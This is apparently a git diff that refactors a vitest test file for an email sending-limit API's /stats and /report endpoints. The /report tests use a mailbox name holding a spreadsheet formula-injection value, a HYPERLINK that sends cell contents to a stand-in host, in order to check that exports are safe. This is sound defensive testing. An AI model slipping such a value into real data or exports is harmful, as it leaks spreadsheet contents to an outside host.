@@ -1,6 +1,5 @@
-import type { LightMyRequestResponse } from 'fastify';
-import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { ADMIN, ApiHarness, JDOE, MARY, RES1 } from '../../test-support/api-harness.js';
+import { describe, expect, it } from 'vitest';
+import { ADMIN, ApiHarness, harnessForEachTest, JDOE, MARY, ok, refused, RES1 } from '../../test-support/api-harness.js';
 import { exampleDirectory } from '../../test-support/directory-fixture.js';
 import type { ReportRow } from '../core/report.js';
 import type { HourBucket } from '../store/hourly-stats.js';
@@ -11,28 +10,11 @@ import type { HourBucket } from '../store/hourly-stats.js';
  */
 
 let h: ApiHarness;
-afterEach(async () => {
-  await h.close();
-});
-
-async function ok<T>(response: Promise<LightMyRequestResponse>): Promise<T> {
-  const answer = await response;
-  expect(answer.statusCode, answer.body).toBe(200);
-  return answer.json() as T;
-}
-
-async function refused(response: Promise<LightMyRequestResponse>): Promise<{ error: string; fields?: Record<string, string> }> {
-  const answer = await response;
-  expect(answer.statusCode, answer.body).toBe(400);
-  return answer.json() as { error: string; fields?: Record<string, string> };
-}
 
 type Stats = { period: string | null; bucketHours: number; buckets: HourBucket[] };
 
 describe('GET /stats?period', () => {
-  beforeEach(async () => {
-    h = await ApiHarness.start();
-  });
+  harnessForEachTest((started) => (h = started));
 
   it('answers 24 hourly bars, 28 bars of 6 hours or 31 daily bars, and says how long a bar is', async () => {
     h.sendMany('alice@example.com', 2);
@@ -63,19 +45,24 @@ describe('GET /stats?period', () => {
 describe('GET /report', () => {
   // A hostile customer may name a mailbox so that a spreadsheet would run it as a formula.
   const FORMULA = '=HYPERLINK("http://x.test/?",A1)@example.com';
-  beforeEach(async () => {
-    const directory = exampleDirectory();
-    directory.subscriptions[0]!.domains[0]!.mailboxes.push({ address: FORMULA, limit: null });
-    h = await ApiHarness.start({ directory });
-    // alice: 2 hourly over-limit events; bob's domain (limit 5) trips once; mallory once; an older event of carol.
-    expect(h.sendMany('carol@example.com', 4)).toBe(3);
-    h.advance(10 * 86_400);
-    expect(h.sendMany('alice@example.com', 5)).toBe(3);
-    expect(h.sendMany('bob@example.com', 3)).toBe(2);
-    expect(h.sendMany('mallory@other.org', 4)).toBe(3);
-    h.advance(3600);
-    expect(h.sendMany(FORMULA, 4)).toBe(3);
-  });
+  harnessForEachTest(
+    (started) => {
+      h = started;
+      // alice: 2 hourly over-limit events; bob's domain (limit 5) trips once; mallory once; an older event of carol.
+      expect(h.sendMany('carol@example.com', 4)).toBe(3);
+      h.advance(10 * 86_400);
+      expect(h.sendMany('alice@example.com', 5)).toBe(3);
+      expect(h.sendMany('bob@example.com', 3)).toBe(2);
+      expect(h.sendMany('mallory@other.org', 4)).toBe(3);
+      h.advance(3600);
+      expect(h.sendMany(FORMULA, 4)).toBe(3);
+    },
+    () => {
+      const directory = exampleDirectory();
+      directory.subscriptions[0]!.domains[0]!.mailboxes.push({ address: FORMULA, limit: null });
+      return { directory };
+    },
+  );
 
   const names = (rows: ReportRow[]) => rows.map((row) => `${row.level} ${row.name}`);
 
